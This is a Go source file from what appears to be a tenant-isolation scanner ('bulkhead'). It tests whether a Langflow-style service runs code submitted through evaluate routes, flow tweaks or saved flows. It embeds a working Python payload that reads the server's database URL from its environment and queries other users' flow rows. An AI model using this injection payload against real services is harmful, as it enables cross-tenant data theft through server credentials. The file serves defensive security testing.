package web

import (
	"context"
	"encoding/json"
	"fmt"
	"strings"

	"github.com/engardehq/bulkhead/internal/result"
)

var codeSpec = Spec{Name: "code", Doc: "brings code of its own by every way that takes some; where it runs, looks what it can read",
	Channels: func(p *Profile) []string {
		if p.Code == nil {
			return nil
		}
		return []string{"L03"}
	}, Run: ownCode}

// marker is what the code below works out: it can't be in an answer that merely repeats the code.
const marker = "bulkhead-ran-62615533"

// inert is a component that changes nothing: it counts what the server's own credentials let it read, and says so in its own description, one canary of
// each of a few users beside it.
const inert = `import os
from langflow.custom import Component
from langflow.io import Output
from langflow.schema.message import Message


def reach():
    try:
        import psycopg
        url = "postgresql://" + os.environ.get("LANGFLOW_DATABASE_URL", "").partition("://")[2]
        with psycopg.connect(url, autocommit=False) as c:
            rows = c.execute("SELECT user_id::text, min(name), count(*) FROM langflow.flow GROUP BY user_id ORDER BY user_id LIMIT 5").fetchall()
            c.rollback()
            return str(rows)
    except Exception as e:
        return type(e).__name__


class Inert(Component):
    display_name = "bulkhead-ran-" + str(7919 * 7907)
    description = "bulkhead-ran-" + str(7919 * 7907) + " " + reach()
    name = "Inert"
    inputs = []
    outputs = [Output(name="out", display_name="Out", method="out")]

    def out(self) -> Message:
        return Message(text="bulkhead-ran-" + str(7919 * 7907) + " " + reach())
`

// ownCode demands that code from a request is not run.
func ownCode(ctx context.Context, a *attack) error {
	attacker, _ := a.pair(0)
	for _, e := range a.Profile.Code.Evaluate {
		verb, path, _ := strings.Cut(e.Send, " ")
		if !a.has(verb, path) {
			continue // not in this version
		}
		data, err := json.Marshal(withCode(e.Body, inert))
		if err != nil {
			return err
		}
		r := request{verb: verb, path: path, header: a.Login(attacker), body: data, kind: "application/json"}
		ans, err := a.client.send(ctx, r)
		if err != nil {
			a.at("L03").Unsure(fmt.Sprintf("%s: no answer: %v", e.Send, err))
			continue
		}
		a.judgeCode(attacker, a.Name+" "+e.Send, r, ans)
		if ans.ok() && !strings.Contains(string(ans.body), marker) {
			a.at("L03").Add(result.Finding{Channel: "L03", Severity: result.Weakness, Count: 1, Where: a.Name + " " + e.Send, What: "a route that evaluates code takes a tenant's",
				Fix: codeMend(a), Evidence: []result.Evidence{{Detail: fmt.Sprintf("%s answers %d", e.Send, ans.status)}}})
		}
	}
	if err := a.loaderCode(ctx, attacker); err != nil {
		return err
	}
	_, err := a.rows.tidy(ctx, a.World, a.Profile.Schemas)
	return err
}

// has tells whether the service lists a route.
func (a *attack) has(verb, path string) bool {
	for _, r := range a.Routes {
		for _, v := range r.Methods {
			if v == verb && strings.TrimSuffix(r.Path, "/") == strings.TrimSuffix(path, "/") {
				return true
			}
		}
	}
	return false
}

// withCode copies a body with the code in place of {code}.
func withCode(v any, code string) any {
	switch v := v.(type) {
	case string:
		return strings.ReplaceAll(v, "{code}", code)
	case []any:
		all := make([]any, len(v))
		for i := range v {
			all[i] = withCode(v[i], code)
		}
		return all
	case map[string]any:
		all := map[string]any{}
		for k := range v {
			all[k] = withCode(v[k], code)
		}
		return all
	}
	return v
}

// judgeCode looks whether the code has run, and what it has read.
func (a *attack) judgeCode(attacker int, where string, r request, ans *answer) {
	o := a.at("L03")
	ran := strings.Contains(string(ans.body), marker)
	s, leak := a.foreign(attacker, ans, r)
	if o.Looked(!ran && !leak) {
		return
	}
	f := result.Finding{Channel: "L03", Severity: result.Weakness, Count: 1, Where: where, What: "a tenant's code runs on the server, with the server's credentials",
		Fix: codeMend(a), Evidence: []result.Evidence{{Detail: fmt.Sprintf("answers %d with what the code worked out", ans.status)}}}
	if leak {
		owners := map[int]bool{}
		for m := range a.marks(ans.body) {
			owners[m.ref.Tenant] = m.ref.Tenant != attacker
		}
		f.Severity, f.What = result.Leak, "a tenant's code runs on the server and reads other tenants' rows"
		f.Evidence[0] = a.evidence(attacker, s, fmt.Sprintf("it has read rows of %d tenants before it stopped looking", len(owners)))
	}
	o.Add(f)
}

func codeMend(a *attack) string { return "-- " + a.Name + ": " + a.Profile.Code.Mend }

// loaderCode runs a flow with other code than the server's: by a tweak, and saved with it.
func (a *attack) loaderCode(ctx context.Context, attacker int) error {
	k, o := a.Profile.Code, a.at("L03")
	flow, nodes, err := a.loaderFlow(ctx, attacker)
	if err != nil {
		o.Unsure("altering a flow's code: " + err.Error())
		return nil
	}
	for _, node := range nodes {
		r, ans, err := a.run(ctx, attacker, a.Loader[attacker], map[string]any{node: map[string]any{"code": inert}})
		if err != nil {
			o.Unsure("running a flow with a tweak: " + err.Error())
			continue
		}
		a.judgeCode(attacker, a.Name+" "+k.Run+", a tweak of the code", r, ans)
	}
	altered := alterCode(flow, inert)
	made, err := a.make(ctx, k.Save, attacker, map[string]any{"data": altered["data"]}, nil)
	if err != nil {
		if made.answer != nil && made.status < 500 {
			a.judgeCode(attacker, a.Name+" "+k.Save.Create, made.request, made.answer)
			return nil
		}
		o.Unsure("saving a flow with other code: " + err.Error())
		return nil
	}
	r, ans, err := a.run(ctx, attacker, made.id, nil)
	if err != nil {
		o.Unsure("running a flow saved with other code: " + err.Error())
	} else {
		a.judgeCode(attacker, a.Name+" "+k.Run+", a flow saved with other code", r, ans)
	}
	return a.unmake(ctx, k.Save, attacker, made.id)
}

// alterCode copies a flow with other code in each of its nodes.
func alterCode(v map[string]any, code string) map[string]any {
	out := map[string]any{}
	for k, inner := range v {
		out[k] = altered(k, inner, code)
	}
	return out
}

func altered(key string, v any, code string) any {
	switch v := v.(type) {
	case map[string]any:
		out := alterCode(v, code)
		if _, is := v["value"].(string); is && key == "code" {
			out["value"] = code
		}
		return out
	case []any:
		all := make([]any, len(v))
		for i := range v {
			all[i] = altered("", v[i], code)
		}
		return all
	}
	return v
}
